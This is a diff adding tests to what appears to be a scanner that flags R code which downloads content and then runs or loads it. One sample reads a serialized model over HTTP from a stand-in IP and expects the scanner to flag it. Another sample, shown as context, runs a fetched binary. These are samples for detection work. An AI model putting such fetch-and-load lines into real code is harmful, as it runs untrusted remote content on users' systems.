@@ -155,3 +155,18 @@ def test_a_function_handed_a_url_downloads_and_its_result_is_run(tmp_path: Path)
         'system2(bin, c("--serve"))\n'
     )
     assert Kind.EXEC_FETCHED in kinds(tmp_path, source)
+
+
+def test_an_rds_read_from_a_url_is_a_download_loaded(tmp_path: Path) -> None:
+    source = 'model <- readRDS(url("http://198.51.100.63/model.rds"))\npredict(model, newdata)\n'
+    assert Kind.EXEC_FETCHED in kinds(tmp_path, source)
+
+
+def test_a_cran_archive_installed_by_url_and_a_bundled_rds_stay_quiet(tmp_path: Path) -> None:
+    source = (
+        'remotes::install_url("https://cran.r-project.org/src/contrib/Archive/zoo/zoo_1.8-11.tar.gz")\n'
+        'model <- readRDS(file.path("assets", "model.rds"))\n'
+        'load("assets/fitted.RData")\n'
+    )
+    findings = scan_findings(tmp_path, {"scripts/fit.R": source})
+    assert [f for f in findings if f.severity.value in ("error", "warning")] == []
